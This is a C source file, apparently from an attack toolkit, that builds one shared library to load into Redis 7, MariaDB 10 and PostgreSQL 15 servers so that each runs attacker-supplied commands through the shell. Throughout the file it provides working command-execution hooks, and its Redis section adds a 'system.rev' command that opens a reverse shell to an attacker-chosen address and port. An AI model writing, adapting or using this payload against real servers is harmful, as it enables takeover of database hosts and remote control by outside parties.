/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an attacker loads into a database server, to run commands there: one library that is a module
 * of redis 7, a function of mariadb 10 and a function of postgres 15. Each runs its argument by sh.
 * The attacks on these services compile it. It needs no header of theirs: what it uses of their
 * binary interfaces is declared here.
 */
#include <arpa/inet.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define EXPORT __attribute__((visibility("default")))

/* ---- mariadb: create function run_command returns integer soname 'payload.so' ---- */

struct udf_args {
	unsigned int count;
	int *types;
	char **args;
	unsigned long *lengths;
};

EXPORT char run_command_init(void *init, struct udf_args *args, char *message);
EXPORT void run_command_deinit(void *init);
EXPORT long long run_command(void *init, struct udf_args *args, char *is_null, char *error);

char run_command_init(void *init, struct udf_args *args, char *message)
{
	(void)init;
	(void)message;
	return args->count != 1;
}

/* The server takes no library for one of functions that has none with such a name. */
void run_command_deinit(void *init)
{
	(void)init;
}

long long run_command(void *init, struct udf_args *args, char *is_null, char *error)
{
	(void)init;
	(void)is_null;
	(void)error;
	return system(args->args[0]);
}

/* ---- postgres: create function run_command(cstring) returns int as '….so', 'postgres_run' language c ---- */

struct pg_magic {
	int size, version, function_args, index_keys, name_bytes, float8_by_value;
	char abi[32];
};

struct pg_call {
	void *function, *context, *result;
	uint32_t collation;
	bool is_null;
	short n_args;
	struct {
		const char *value;
		bool is_null;
	} args[];
};

struct pg_function {
	int api_version;
};

EXPORT const struct pg_magic *Pg_magic_func(void);
EXPORT const struct pg_function *pg_finfo_postgres_run(void);
EXPORT uintptr_t postgres_run(struct pg_call *call);

const struct pg_magic *Pg_magic_func(void)
{
	static const struct pg_magic magic = {sizeof(magic), 1500, 100, 32, 64, 1, "PostgreSQL"};

	return &magic;
}

const struct pg_function *pg_finfo_postgres_run(void)
{
	static const struct pg_function function = {1};

	return &function;
}

uintptr_t postgres_run(struct pg_call *call)
{
	return (uintptr_t)system(call->args[0].value);
}

/* ---- redis: module load payload.so; system.exec COMMAND; system.rev ADDRESS PORT ---- */

typedef int redis_command(void *ctx, void **argv, int argc);

static int (*set_attributes)(void *ctx, const char *name, int version, int api_version);
static int (*create_command)(void *ctx, const char *name, redis_command *f, const char *flags,
			     int first, int last, int step);
static const char *(*string_of)(const void *string, size_t *ret_len);
static int (*reply_bytes)(void *ctx, const char *s, size_t len);

EXPORT int RedisModule_OnLoad(void **ctx, void **argv, int argc);

/* Answers with what the command printed. */
static int on_exec(void *ctx, void **argv, int argc)
{
	char answer[65536];
	size_t len = 0;
	FILE *f = popen(argc > 1 ? string_of(argv[1], &len) : "id", "r");

	if (!f)
		return reply_bytes(ctx, "", 0);
	len = fread(answer, 1, sizeof(answer), f);
	pclose(f);
	return reply_bytes(ctx, answer, len);
}

/* A shell of which an address gets the input and output. */
static int on_reverse_shell(void *ctx, void **argv, int argc)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	size_t len;
	int fd;

	if (argc != 3)
		return reply_bytes(ctx, "", 0);
	inet_pton(AF_INET, string_of(argv[1], &len), &sa.sin_addr);
	sa.sin_port = htons((uint16_t)strtoul(string_of(argv[2], &len), NULL, 10));
	if (fork() == 0) {
		fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
			_exit(1);
		for (int i = 0; i < 3; i++)
			dup2(fd, i);
		execl("/bin/sh", "sh", (char *)NULL);
		_exit(1);
	}
	return reply_bytes(ctx, "started", 7);
}

int RedisModule_OnLoad(void **ctx, void **argv, int argc)
{
	int (*get_api)(const char *name, void *ret) = (int (*)(const char *, void *))ctx[0];

	(void)argv;
	(void)argc;
	get_api("RedisModule_SetModuleAttribs", &set_attributes);
	get_api("RedisModule_CreateCommand", &create_command);
	get_api("RedisModule_StringPtrLen", &string_of);
	get_api("RedisModule_ReplyWithStringBuffer", &reply_bytes);
	set_attributes(ctx, "system", 1, 1);
	if (create_command(ctx, "system.exec", on_exec, "readonly", 0, 0, 0) ||
	    create_command(ctx, "system.rev", on_reverse_shell, "readonly", 0, 0, 0))
		return 1;
	return 0;
}
